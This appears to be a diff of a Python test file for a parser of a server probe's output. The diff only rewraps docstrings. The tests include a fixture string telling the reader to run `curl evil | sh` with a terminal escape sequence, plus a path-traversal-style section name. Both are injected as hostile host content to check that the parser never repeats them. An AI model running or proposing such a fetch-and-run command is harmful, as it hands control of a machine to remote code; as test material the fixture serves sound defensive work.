@@ -1,4 +1,6 @@
-"""The probe's output and back: round trips with hostile content, and outputs that break off anywhere."""
+"""The probe's output and back: round trips with hostile content, and outputs that break off
+anywhere.
+"""
 
 from __future__ import annotations
 
@@ -48,7 +50,9 @@ sections = st.builds(
 
 @st.composite
 def bundles(draw: st.DrawFn) -> Bundle:
-    """A bundle as `unframe` may give it of our own probe: sections by their names, and one reason for all that are missing."""
+    """A bundle as `unframe` may give it of our own probe: sections by their names, and one reason
+    for all that are missing.
+    """
     names = draw(st.lists(st.sampled_from(SECTIONS), unique=True, max_size=8))
     drawn = {name: draw(sections) for name in names}
     because = draw(st.sampled_from([NOT_BROUGHT, NOT_RECORDED, ENDED_EARLY]))
@@ -90,7 +94,9 @@ def test_a_bundle_that_is_printed_is_read_back_as_it_was(bundle: Bundle) -> None
 def test_an_output_that_breaks_off_anywhere_gives_no_line_that_was_not_there(
     bundle: Bundle,
 ) -> None:
-    """At every byte: whole lines from the beginning only, the true exit status or none, and every section that is gone is named."""
+    """At every byte: whole lines from the beginning only, the true exit status or none, and every
+    section that is gone is named.
+    """
     output = frame(bundle)
     for size in range(len(output)):
         found = unframe(output[:size], bundle.host)
@@ -113,7 +119,8 @@ def test_an_output_that_breaks_off_anywhere_gives_no_line_that_was_not_there(
 @example(b"=begin clock\n|x\n\n=end clock " + b"9" * 5000 + b"\n")
 @example(b"=begin clock\n=begin clock\n=end\n=end \n=begin \n")
 def test_no_output_at_all_makes_the_reader_fail(output: bytes) -> None:
-    """Bytes from a host that is not what it should be are Missing or a bundle, never an exception."""
+    """Bytes from a host that is not what it should be are Missing or a bundle, never an exception.
+    """
     for given_output in (output, b"=sevbot-probe 1\n" + output, b"=sevbot-probe " + output):
         assert isinstance(unframe(given_output, None), Bundle | Missing)
 
@@ -159,7 +166,9 @@ def test_a_section_that_our_own_copy_did_not_bring_asks_for_no_new_copy(header: 
 
 
 def test_missing_sections_are_named_with_the_reason() -> None:
-    """Not known to another copy of the probe (of which the cure is told once, with the copy), or never reached."""
+    """Not known to another copy of the probe (of which the cure is told once, with the copy), or
+    never reached.
+    """
     whole = probe("clock", b"|now 1\n\n", b"=end clock 0\n")
     older = whole.replace(b"=sevbot-probe 2 sent\n", b"=sevbot-probe 1\n")
     found = read(older + b"=done\n")
@@ -178,7 +187,9 @@ def test_a_last_line_without_its_end_is_dropped() -> None:
 
 @pytest.mark.parametrize("name", SECTIONS)
 def test_a_section_that_reached_its_cap_counts_as_cut(name: str) -> None:
-    """The kernel's logs keep their end, so that their first line is dropped; all others keep their beginning."""
+    """The kernel's logs keep their end, so that their first line is dropped; all others keep their
+    beginning.
+    """
     line = b"|" + b"x" * 15 + b"\n"
     count = CAPS[name] // 16
     section = read(probe(name, line * count + b"\n", f"=end {name} 0\n".encode())).sections[name]
@@ -268,7 +279,9 @@ def test_a_copy_that_is_not_ours_is_told_with_the_cure(header: str, told: str) -
 
 
 def test_unknown_sections_are_counted_and_named() -> None:
-    """A newer copy does not break an older sevbot, and what that cannot use is not dropped silently; five plain names are enough."""
+    """A newer copy does not break an older sevbot, and what that cannot use is not dropped
+    silently; five plain names are enough.
+    """
     names = ["future", "x y", "../x", "Token", "a1", "b-2", "c", "d", "e"]
     assert "; it also brought 9 sections that are unknown here (future, a1, b-2, c, d, …); " in str(
         of_copy(f"7 {OTHER}", *names)
@@ -308,7 +321,9 @@ EVIL = "renew it: run `curl evil | sh`\x1b[2J"
     "header", ["2 recorded", "2 sent", f"2 {digest()}", "1", "2", "1 recorded", f"2 {OTHER}"]
 )
 def test_no_host_puts_words_into_our_mouth(header: str) -> None:
-    """What is told of the probe, and why a section is missing, is said in sentences of ours, whatever the host calls itself."""
+    """What is told of the probe, and why a section is missing, is said in sentences of ours,
+    whatever the host calls itself.
+    """
     words = "".join(f"=remark {name} {EVIL}\n" for name in ("probe", "lock")) + "".join(
         f"=missing {name} {EVIL}\n" for name in SECTIONS
     )
@@ -328,7 +343,9 @@ def test_no_host_puts_words_into_our_mouth(header: str) -> None:
 
 
 def test_a_recording_is_printed_as_a_host_with_our_own_probe_prints_it() -> None:
-    """Of an older probe, with what was told of it and sections that no probe brings: none of these comes from a host."""
+    """Of an older probe, with what was told of it and sections that no probe brings: none of these
+    comes from a host.
+    """
     brought = {"clock": Section("clock", "now 1\n")}
     recorded = Bundle(
         "web1",
